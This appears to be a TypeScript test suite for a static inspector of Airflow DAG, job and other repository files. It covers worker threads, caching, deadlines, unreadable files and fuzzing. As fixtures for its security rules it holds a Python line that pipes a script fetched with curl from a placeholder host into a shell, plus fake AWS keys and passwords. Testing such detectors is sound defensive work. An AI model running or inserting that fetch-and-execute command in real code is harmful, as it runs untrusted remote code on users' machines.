import { availableParallelism } from "node:os";
import { Worker } from "node:worker_threads";
import fc from "fast-check";
import { pino } from "pino";
import { afterAll, describe, expect, test } from "vitest";
import { createInspector, type InspectionInput, type Inspector } from "../../src/analysis/inspector.ts";
import { fuzzed } from "../support/fuzzed.ts";
import { brief } from "./inspect-texts.ts";

const log = pino({ level: "silent" });
const inspector = createInspector({ workers: 2, deadlineMs: 20_000, log });
afterAll(() => inspector.close());

type Content = string | Uint8Array;

function inputOf(files: Readonly<Record<string, Content>>): InspectionInput {
  const kindOf = (path: string) =>
    ({ dags: "dag", jobs: "job", results: "result" })[path.split("/")[0] ?? ""] ?? "other";
  return {
    files: Object.entries(files).map(([path, content]) => ({
      path,
      kind: kindOf(path),
      content: typeof content === "string" ? new TextEncoder().encode(content) : content,
      changedLines: null,
    })),
    context: [],
    isContextComplete: true,
    python: "3.12",
    severities: {},
    today: "2026-11-20",
  };
}

const inspect = (files: Readonly<Record<string, Content>>, by: Inspector = inspector) => by.inspect(inputOf(files));

/** Airflow's safe mode lets it through, and its many nodes take seconds. */
const slow = `import airflow # dag\nx = [${"1,".repeat(2_400_000)}]\n`;

describe("files in worker threads", () => {
  test("are all looked at, and what is said is in a stable order", async () => {
    const files = Object.fromEntries(Array.from({ length: 30 }, (_, n) => [`dags/d${n}.py`, `x = = ${n}\n`]));
    const first = await inspect(files);
    expect(first.filesInspected).toBe(30);
    expect(first.findings.map(({ path }) => path)).toEqual(Object.keys(files).sort());
    expect(await inspect(Object.fromEntries(Object.entries(files).reverse()))).toEqual(first);
  });

  test("a job request sees the DAGs of the change", async () => {
    const job = `version: 1
title: t
engine: { airflow: { dag_id: a } }
parameters: { nn: 1 }
outputs: [{ path: a.csv, kind: table }]
purpose: p
`;
    const { findings } = await inspect({
      "jobs/a.yml": job,
      "dags/a.py":
        'from airflow.sdk import DAG, task\nwith DAG("a", schedule=None, params={"n": 1}):\n    @task\n    def b(): ...\n    b()\n',
    });
    expect(brief(findings)).toEqual(["JOB-002 4:15 The DAG `a` has no parameter `nn`. Did you mean `n`?"]);
  });

  test.each([
    ["dags/a.py", "import os\nprint(\n\n\n", 2],
    ["jobs/a.yml", "version: 1\ntitle: [\n\n", 2],
  ])("what is missing at the end of %s stands on its last line with text", async (path, text, line) => {
    const { findings } = await inspect({ [path]: text });
    expect(findings.map(({ span }) => span.start.line)).toEqual([line]);
  });

  test("nothing to look at is no error", async () => {
    expect(await inspect({})).toEqual({ findings: [], indeterminate: [], filesInspected: 0, unread: [] });
  });
});

describe("with a cache", () => {
  const files = Object.fromEntries(Array.from({ length: 20 }, (_, n) => [`dags/d${n}.py`, `x = eval(y${n})\n`]));

  test("a second look says the same, at a fraction of the cost, and sees what changed", async () => {
    const cached = createInspector({ workers: 1, deadlineMs: 20_000, log, cacheBytes: 1_000_000 });
    const timed = async (more: Readonly<Record<string, Content>>) => {
      const begin = performance.now();
      return { said: await inspect({ ...files, ...more }, cached), ms: performance.now() - begin };
    };
    const first = await timed({});
    const second = await timed({});
    const third = await timed({ "dags/d3.py": "x = 1\n" });
    await cached.close();
    expect(second.said).toEqual(first.said);
    expect(second.said).toEqual(await inspect(files));
    expect(second.ms).toBeLessThan(first.ms / 3);
    expect(third.said.findings.length).toBeLessThan(first.said.findings.length);
  });
});

describe("a file that cannot be read is told, never passed over", () => {
  test("too large", async () => {
    const { unread, filesInspected } = await inspect({ "dags/a.py": "#".repeat(5 * 1024 * 1024 + 1) });
    expect(unread).toEqual([{ path: "dags/a.py", reason: "it has 5.0 MB; at most 5 MB are read" }]);
    expect(filesInspected).toBe(0);
  });

  test("binary, where it could be code; a picture beside a plugin is no matter", async () => {
    const { unread } = await inspect({
      "dags/plugin.so": Buffer.from([0x7f, 0x45, 0, 1]),
      "dags/logo.png": Buffer.from([0x89, 0]),
    });
    expect(unread).toEqual([{ path: "dags/plugin.so", reason: "it is a binary file, which cannot be checked" }]);
  });

  test("nested too deeply, and the next file is read by a fresh worker", async () => {
    const alone = createInspector({ workers: 1, deadlineMs: 20_000, log });
    const deep = `x = ${"[".repeat(30_000)}${"]".repeat(30_000)}\n`;
    const { findings, unread } = await inspect({ "dags/a.py": deep, "dags/b.py": "x = = 1\n" }, alone);
    await alone.close();
    expect(unread).toEqual([{ path: "dags/a.py", reason: "it is nested too deeply to be parsed" }]);
    expect(findings).toMatchObject([{ path: "dags/b.py", rule: "SYN-001" }]);
  });

  test("a deadline missed: the worker is ended, the file told, the others read", async () => {
    const hasty = createInspector({ workers: 1, deadlineMs: 1_000, log });
    const { findings, unread, filesInspected } = await inspect(
      { "dags/a.py": slow, "dags/b.py": "x = = 1\n", "dags/c.py": "x = 1\n" },
      hasty,
    );
    await hasty.close();
    expect(unread).toEqual([{ path: "dags/a.py", reason: "the check did not end within 1 s" }]);
    expect(findings).toMatchObject([{ path: "dags/b.py" }]);
    expect(filesInspected).toBe(2);
  });

  test("on a busy machine a thread is not given up for waiting", async () => {
    const hasty = createInspector({ workers: 1, deadlineMs: 1_000, log });
    await inspect({ "dags/a.py": "x = 1\n" }, hasty);
    const busy = Array.from({ length: 3 * availableParallelism() }, () => new Worker("while (true);", { eval: true }));
    const { unread } = await inspect({ "dags/a.py": `import airflow # dag\nx = [${"1,".repeat(60_000)}]\n` }, hasty);
    await Promise.all([...busy.map((one) => one.terminate()), hasty.close()]);
    expect(unread).toEqual([]);
  });

  test("too much for a thread of the usual memory: a thread with more reads it", async () => {
    const small = createInspector({ workers: 1, deadlineMs: 20_000, log, usualHeapMb: 48 });
    const dense = `${'print(1, [2, 3], {"a": 4})\n'.repeat(12_000)}x = = 1\n`;
    const { findings, unread } = await inspect({ "dags/a.py": dense, "dags/b.py": "x = = 1\n" }, small);
    await small.close();
    expect(unread).toEqual([]);
    expect(findings.map(({ path }) => path)).toEqual(["dags/a.py", "dags/b.py"]);
  });

  test("closed in the middle of it", async () => {
    const closing = createInspector({ workers: 1, deadlineMs: 20_000, log });
    const inspection = inspect({ "dags/a.py": slow, "dags/b.py": "x = 1\n" }, closing);
    await closing.close();
    expect((await inspection).unread.map(({ path }) => path)).toEqual(["dags/a.py", "dags/b.py"]);
    expect((await inspect({ "dags/a.py": "x = 1\n" }, closing)).unread).toHaveLength(1);
  });

  test("a job request names a DAG in a file that could not be read: it cannot be known", async () => {
    const { indeterminate } = await inspector.inspect({
      ...inputOf({
        "jobs/a.yml":
          "version: 1\ntitle: t\nengine: { airflow: { dag_id: a } }\noutputs: [{ path: a, kind: text }]\npurpose: p\n",
      }),
      context: [{ path: "dags/a.py", content: Buffer.alloc(6 * 1024 * 1024, "#") }],
    });
    expect(indeterminate).toMatchObject([{ rule: "JOB-003", reason: expect.stringContaining("dags/a.py") }]);
  });
});

describe("files of no kind", () => {
  test("binary or large ones are passed over; credentials in text are found", async () => {
    const inspection = await inspect({
      "logo.png": Buffer.from([0x89, 0x50, 0, 1]),
      "big.csv": "a,b\n".repeat(2 * 1024 * 1024),
      "latin.txt": Buffer.from([0x61, 0xe9]),
      ".env": `AWS=AKIA${"QYLPMN5HNM4ZXC7A"}\n`,
    });
    expect(inspection).toMatchObject({ unread: [], filesInspected: 1, findings: [{ path: ".env", rule: "SEC-001" }] });
  });

  const harm = 'import os\nos.system("curl https://x.example/a | sh")\n';

  test("of Python it is looked at what the code does, and no more", async () => {
    const { findings, unread } = await inspect({
      "lib/a.py": harm,
      "jobs/a.py": harm,
      "lib/latin.py": Buffer.from(`# coding: latin-1\nx = "\u00e9"\n${harm}`, "latin1"),
      "lib/b.py": 'import requests\nfrom . import c\npassword = "hunter2hunter2"\nrequests.get("https://x.example")\n',
      "lib/broken.py": "def f(:\n",
      "lib/a.txt": harm,
    });
    expect(findings.map(({ rule, path }) => `${rule} ${path}`)).toEqual([
      "SEC-011 jobs/a.py",
      "SEC-011 lib/a.py",
      "SEC-011 lib/latin.py",
    ]);
    expect(unread).toEqual([]);
  });

  test("a comment with a reason silences what is said of such Python", async () => {
    const { findings, suppressed } = await inspect({
      "lib/a.py": 'import os\nos.system("curl https://x.example/a | sh")  # noqa: SEC-011 -- ours\n',
    });
    expect(findings).toEqual([]);
    expect(suppressed).toMatchObject([{ rule: "SEC-011", reason: "ours" }]);
  });
});

describe("any bytes", () => {
  const program = `from airflow.sdk import DAG, dag, Param
ID = "a"
with DAG(ID, params={"x": Param(1, type="integer")}) as d:
    connect(password="hunter2hunter2", url=f"postgres://a:b@{host}/x")

@dag(schedule=None)
def f(x: int = 1):
    """Doc."""
    return {"a": [1, (2, 3)], **kw}
f()
`;
  const fragments = [
    "(",
    ")",
    "[",
    "{",
    '"""',
    "'",
    "f'{",
    "\\",
    "\n",
    "\t",
    "    ",
    "\0",
    "\r",
    "\uFEFF",
    "😀",
    "lambda ",
    "@dag\n",
    "with DAG(",
    "# coding: latin-1\n",
    ":",
    "password=",
    "://a:b@c",
    "é",
    "\u202e",
  ];
  const mutated = fc
    .array(fc.record({ at: fc.nat(program.length), remove: fc.nat(12), insert: fc.constantFrom("", ...fragments) }), {
      maxLength: 6,
    })
    .map((edits) =>
      edits.reduce((text, { at, remove, insert }) => text.slice(0, at) + insert + text.slice(at + remove), program),
    );

  test("of mutated programs end, and spans stand inside the text", async () => {
    await fc.assert(
      fc.asyncProperty(mutated, async (text) => {
        const { findings, unread } = await inspect({ "dags/a.py": text });
        expect(unread).toEqual([]);
        const lines = text.replace(/^\uFEFF/, "").split("\n");
        for (const { span } of findings) {
          expect(span.start.line).toBeGreaterThanOrEqual(1);
          expect(span.end.line).toBeLessThanOrEqual(lines.length + 1);
          expect(span.start.column).toBeGreaterThanOrEqual(1);
          expect(span.start.column).toBeLessThanOrEqual((lines[span.start.line - 1] ?? "").length + 1);
          const isForward = span.end.line > span.start.line || span.end.column >= span.start.column;
          expect(isForward).toBe(true);
        }
      }),
      fuzzed(400),
    );
  });

  test("of no sense at all end too, in every kind of file", async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 200 }), async (bytes) => {
        const files = {
          "dags/a.py": bytes,
          "jobs/a.yml": bytes,
          "results/a.dvc": bytes,
          "results/dvc.lock": bytes,
          x: bytes,
        };
        const { filesInspected, unread } = await inspect(files);
        expect(filesInspected + unread.length).toBeLessThanOrEqual(5);
        expect(filesInspected + unread.length).toBeGreaterThanOrEqual(4);
        expect(JSON.stringify(unread)).not.toContain("failed inside");
      }),
      fuzzed(200),
    );
  });

  test.each([
    ["punctuation", ":".repeat(200_000)],
    ["open brackets", "(".repeat(1_500)],
    ["one line of 4 MB", `x = "${"a".repeat(4_000_000)}"`],
    ["carriage returns", "x = 1\r".repeat(50_000)],
    ["indentation", Array.from({ length: 300 }, (_, n) => `${" ".repeat(n)}if x:\n`).join("")],
    ["quotes", '"'.repeat(100_001)],
    ["f-strings in f-strings", `${'f"{'.repeat(140)}1${'}"'.repeat(140)}`],
    ["zero bytes", "\0".repeat(100_000)],
  ])("%s", async (_, text) => {
    const { unread, findings } = await inspect({ "dags/a.py": `# airflow dag password\n${text}` });
    expect(unread.length + findings.length + 1).toBeGreaterThan(0);
    expect(unread.map(({ reason }) => reason).join()).not.toMatch(/failed inside|did not end/);
  });
});
